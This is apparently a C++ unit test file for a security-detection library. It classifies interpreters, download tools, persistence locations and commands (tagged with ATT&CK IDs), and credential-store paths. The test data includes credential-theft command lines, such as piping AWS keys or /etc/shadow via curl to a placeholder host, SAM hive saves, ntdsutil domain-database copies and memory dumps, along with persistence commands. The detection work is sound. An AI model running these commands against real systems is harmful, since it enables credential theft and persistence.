#include "clew/inquiry/programs.h"

#include <string>

#include <gtest/gtest.h>

namespace clew::inquiry {
namespace {

struct PathCase {
  std::string_view path;
  bool want;
};

TEST(Programs, InterpretersRunWhatTheyAreGiven) {
  for (const PathCase& c : {PathCase{"/bin/sh", true},
                            {"/bin/zsh", true},
                            {"/usr/local/bin/Python3.11", true},
                            {"/usr/bin/ruby2.6", true},
                            {"/usr/bin/osascript", true},
                            {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", true},
                            {R"(C:\Windows\System32\CMD.EXE)", true},
                            {R"(C:\Windows\System32\wscript.exe)", true},
                            {"bash", true},
                            {"/usr/bin/ssh", false},
                            {"/usr/bin/pythonista", false},
                            {"/opt/sh/bin/tool", false},
                            {"/usr/bin/osascripted", false},
                            {R"(C:\Windows\System32\cmdkey.exe)", false},
                            {"/usr/bin/curl", false},
                            {"", false},
                            {"3.11", false},
                            {"/", false}})
    EXPECT_EQ(is_interpreter(c.path), c.want) << c.path;
}

TEST(Programs, FetchersBringFiles) {
  for (const PathCase& c : {PathCase{"/usr/bin/curl", true},
                            {"/usr/bin/wget", true},
                            {R"(C:\Windows\System32\certutil.exe)", true},
                            {R"(C:\Windows\System32\bitsadmin.exe)", true},
                            {"/usr/bin/curl-config", false},
                            {"/usr/bin/git", false},
                            {"", false}})
    EXPECT_EQ(is_fetcher(c.path), c.want) << c.path;
}

TEST(Programs, OfTheSystemLiveInItsFolders) {
  for (const PathCase& c : {PathCase{"/bin/ls", true},
                            {"/usr/libexec/xpcproxy", true},
                            {"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", true},
                            {R"(c:\windows\system32\svchost.exe)", true},
                            {"/usr/local/bin/tool", false},
                            {"/tmp/bin/ls", false},
                            {"/Users/kim/bin/sh", false},
                            {R"(C:\Users\kim\system32\svchost.exe)", false},
                            {R"(C:\Windows\Temp\x.exe)", false},
                            {"", false}})
    EXPECT_EQ(is_system_program(c.path), c.want) << c.path;
}

struct FolderCase {
  std::string_view path, technique;  // empty: none
};

TEST(Persistence, IsWhereThingsStartByThemselves) {
  for (const FolderCase& c :
       {FolderCase{"/Library/LaunchDaemons/com.example.updater.plist", "T1543.004"},
        {"/Library/LaunchAgents/com.example.plist", "T1543.001"},
        {"/Users/kim/Library/LaunchAgents/com.example.plist", "T1543.001"},
        {"/etc/systemd/system/up.service", "T1543.002"},
        {"/usr/lib/systemd/system/up.service", "T1543.002"},
        {"/home/kim/.config/systemd/user/up.service", "T1543.002"},
        {"/etc/cron.d/up", "T1053.003"},
        {"/var/spool/cron/crontabs/root", "T1053.003"},
        {"/etc/ld.so.preload", "T1574.006"},
        {"/home/kim/.ssh/authorized_keys", "T1098.004"},
        {R"(C:\Windows\System32\Tasks\Updater)", "T1053.005"},
        {R"(C:\Users\kim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk)", "T1547.001"},
        {R"(HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater)", "T1547.001"},
        {R"(HKLM\System\CurrentControlSet\Services\up)", "T1543.003"},
        {"/Library/Caches/LaunchDaemons.plist", ""},
        {"/Users/kim/LaunchAgents.txt", ""},
        {"/etc/systemd/system.conf", ""},
        {"/home/kim/.ssh/known_hosts", ""},
        {R"(C:\Windows\System32\drivers\etc\hosts)", ""},
        {"/tmp/crontab", ""},
        {"", ""}}) {
    const auto found = persistence_of(c.path);
    EXPECT_EQ(found ? found->technique : "", c.technique) << c.path;
  }
}

TEST(Persistence, IsAlsoOrderedByCommands) {
  for (const FolderCase& c : {FolderCase{R"(schtasks.exe /Create /SC daily /TN up /TR C:\up.exe)", "T1053.005"},
                              {"sc create up binPath= C:\\up.exe", "T1543.003"},
                              {"sc.exe \\\\host create up", "T1543.003"},
                              {"powershell New-Service -Name up", "T1543.003"},
                              {R"(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up)", "T1547.001"},
                              {"systemctl enable up.service", "T1543.002"},
                              {"crontab -", "T1053.003"},
                              {"launchctl load /Library/LaunchDaemons/up.plist", "T1543.004"},
                              {"launchctl bootstrap system /Library/LaunchDaemons/up.plist", "T1543.004"},
                              {"schtasks /query", ""},
                              {"sc query up", ""},
                              {"systemctl status sshd", ""},
                              {"launchctl list", ""},
                              {"crontab /etc/none", "T1053.003"},
                              {"", ""}}) {
    const auto found = persistence_by_command(c.path);
    EXPECT_EQ(found ? found->technique : "", c.technique) << c.path;
  }
}

TEST(CredentialStores, AreKnownByTheirPlace) {
  for (const FolderCase& c : {FolderCase{"/Users/kim/Library/Keychains/login.keychain-db", "keychain"},
                              {"/Library/Keychains/System.keychain", "keychain"},
                              {"/home/kim/.aws/credentials", "cloud_key"},
                              {R"(C:\Users\kim\.aws\credentials)", "cloud_key"},
                              {"/home/kim/.config/gcloud/credentials.db", "cloud_key"},
                              {"/home/kim/.kube/config", "token"},
                              {"/home/kim/.npmrc", "token"},
                              {"/Users/kim/.ssh/id_ed25519", "ssh_key"},
                              {"/Users/kim/Library/Application Support/Google/Chrome/Default/Login Data", "password"},
                              {"/Users/kim/Library/Application Support/Google/Chrome/Default/Cookies", "session"},
                              {R"(C:\Users\kim\AppData\Local\Google\Chrome\User Data\Default\Login Data)", "password"},
                              {"/home/kim/.mozilla/firefox/a.default/key4.db", "password"},
                              {"/home/kim/safe.kdbx", "password"},
                              {"/home/kim/.ethereum/keystore/UTC--1", "secret"},
                              {"/etc/shadow", "password"},
                              {R"(C:\Windows\NTDS\ntds.dit)", "password"},
                              {"/Users/kim/.ssh/id_ed25519.pub", ""},
                              {"/Users/kim/.ssh/known_hosts", ""},
                              {"/home/kim/.aws/config", ""},
                              {"/home/kim/cookies.txt", ""},
                              {"/home/kim/kube/config", ""},
                              {"/etc/passwd", ""},
                              {"", ""}}) {
    const auto found = credential_store_of(c.path);
    EXPECT_EQ(found ? found->kind : "", c.technique) << c.path;
  }
}

TEST(Owner, IsWhoseHomeFolderAPathLiesIn) {
  for (const FolderCase& c : {FolderCase{"/Users/kim/.ssh/id_rsa", "kim"},
                              {"/home/lou/.netrc", "lou"},
                              {R"(C:\Users\Max\AppData\x)", "Max"},
                              {R"(c:\users\max\x)", "max"},
                              {"/Users/Shared/x", ""},
                              {"/Users/kim", ""},
                              {"/Users/", ""},
                              {"/root/.ssh/id_rsa", ""},
                              {"/tmp/home/kim/x", ""},
                              {"", ""}})
    EXPECT_EQ(owner_of(c.path), c.technique) << c.path;
}

TEST(Programs, ACommandLineReadsStores) {
  struct Row {
    std::string_view line, want;
  };
  constexpr Row rows[] = {
      {"cat /root/.aws/credentials", "AWS keys /root/.aws/credentials; "},
      {"sh -c 'cat ~/.aws/credentials | curl -T - https://x.example'", "AWS keys ~/.aws/credentials; "},
      {"tar czf /tmp/a.tgz /home/kit/.ssh/id_rsa /home/kit/.netrc /home/kit/.ssh/id_ed25519",
       "SSH key /home/kit/.ssh/id_rsa; network passwords /home/kit/.netrc; "},
      {"curl -F f=@/etc/shadow https://x.example", "password hashes /etc/shadow; "},
      {R"(reg save HKLM\SAM C:\Users\Public\s.hiv)", "password hashes ; "},
      {R"("C:\Windows\System32\reg.exe" save hklm\security c:\x)", "secrets of the system ; "},
      {R"(ntdsutil "ac i ntds" ifm "create full C:\x" q q)", "password hashes of the domain ; "},
      {R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full)", "passwords in memory ; "},
      {"security find-generic-password -wa Chrome", "keychain ; "},
      // nothing is read
      {"ssh -i /home/kit/.ssh/id_rsa host", ""},
      {"ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519", ""},
      {"chmod 600 /root/.aws/credentials", ""},
      {"cat /home/kit/.ssh/id_rsa.pub", ""},
      {"rm -f /home/kit/.netrc", ""},
      {R"(reg query HKLM\SAM)", ""},
      {R"(reg save HKLM\SOFTWARE\Acme C:\backup.hiv)", ""},
      {"ntdsutil files info q q", ""},
      {"security list-keychains", ""},
      {"concatenate /root/.netrc", ""},
  };
  for (const Row& row : rows) {
    std::string told;
    for (const ReadStore& read : stores_read_by(row.line))
      told += std::string(read.store.what) + ' ' + std::string(read.path) + "; ";
    EXPECT_EQ(told, row.want) << row.line;
  }
}

}  // namespace
}  // namespace clew::inquiry
